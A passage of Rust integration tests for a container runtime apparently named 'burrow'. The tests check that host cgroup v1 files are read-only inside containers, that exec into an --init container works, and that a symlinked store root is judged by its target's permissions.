        "want one warning naming {}:\n{}",
        root.display(),
        first.stderr()
    );
    let second = with_umask_022(&sb, &["images"]);
    second.assert_code(0);
    assert_eq!(named(&second), 0, "warned again:\n{}", second.stderr());
}

// ---------------------------------------------------------------------------------------------
// 6. Host cgroup v1 hierarchies
// ---------------------------------------------------------------------------------------------

/// A pids cgroup on the host delegated to the test user; removed when the test ends.
struct DelegatedCgroup(PathBuf);

impl DelegatedCgroup {
    fn create(user: &TestUser) -> DelegatedCgroup {
        let dir = PathBuf::from(format!(
            "/sys/fs/cgroup/pids/burrowtest-sec-{}",
            std::process::id()
        ));
        std::fs::create_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
        let guard = DelegatedCgroup(dir);
        std::os::unix::fs::chown(&guard.0, Some(user.uid), Some(user.gid)).unwrap();
        for e in std::fs::read_dir(&guard.0).unwrap().flatten() {
            std::os::unix::fs::chown(e.path(), Some(user.uid), Some(user.gid)).unwrap();
        }
        guard
    }
}

impl Drop for DelegatedCgroup {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir(&self.0);
    }
}

#[test]
fn delegated_host_cgroup_v1_files_are_read_only_in_the_container() {
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(
        mountinfo
            .lines()
            .any(|l| l.split(' ').nth(4) == Some("/sys/fs/cgroup/pids") && l.contains(" - cgroup ")),
        "this test needs a cgroup v1 pids hierarchy at /sys/fs/cgroup/pids:\n{mountinfo}"
    );
    let sb = sandbox_with_busybox();
    let cgroup = DelegatedCgroup::create(sb.user);
    let max = cgroup.0.join("pids.max");
    let script = format!("echo 10 > {0} && cat {0}", max.display());
    let run = sb.run(&["run", "--rm", "busybox", "sh", "-c", &script]);
    let host = std::fs::read_to_string(&max).unwrap();
    assert_eq!(
        host.trim(),
        "max",
        "the container set the host's {}:\n{}{}",
        max.display(),
        run.stdout(),
        run.stderr()
    );
    assert!(
        run.code() != 0 && run.stderr().contains("Read-only file system"),
        "writing the host's cgroup did not fail as read-only (exit {}):\n{}{}",
        run.code(),
        run.stdout(),
        run.stderr()
    );
    let inside = sb
        .ok(&["run", "--rm", "busybox", "cat", "/proc/self/mountinfo"])
        .stdout();
    let writable: Vec<&str> = inside
        .lines()
        .filter(|l| {
            let f: Vec<&str> = l.split(' ').collect();
            f.len() > 5 && f[4].starts_with("/sys/fs/cgroup") && !f[5].split(',').any(|o| o == "ro")
        })
        .collect();
    assert!(
        writable.is_empty(),
        "writable cgroup mounts in the container:\n{}",
        writable.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// 7. exec into an --init container
// ---------------------------------------------------------------------------------------------

#[test]
fn exec_works_into_an_init_container() {
    let sb = sandbox_with_busybox();
    sb.ok(&[
        "run", "-d", "--init", "--name", "i", "busybox", "sleep", "1000",
    ]);
    sb.run(&["exec", "i", "true"]).assert_code(0);
}

/// A store moved to a bigger disk is often a symlink: burrow follows it and judges the target.
#[test]
fn a_store_root_that_is_a_symlink_is_judged_by_its_target() {
    let sb = Sandbox::new();
    let real = sb.home.join("bigdisk");
    std::fs::create_dir(&real).unwrap();
    std::os::unix::fs::chown(&real, Some(sb.user.uid), Some(sb.user.gid)).unwrap();
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o700)).unwrap();
    let link = sb.home.join("store");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let link = link.to_str().unwrap();
    sb.ok(&["--root", link, "pull", "-q", &image_ref("busybox:latest")]);
    assert!(real.join("images.json").is_file());

    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o777)).unwrap();
    sb.run(&["--root", link, "pull", "-q", &image_ref("busybox:latest")])
        .assert_error(125, &["is writable by other users", "point --root at"]);
}
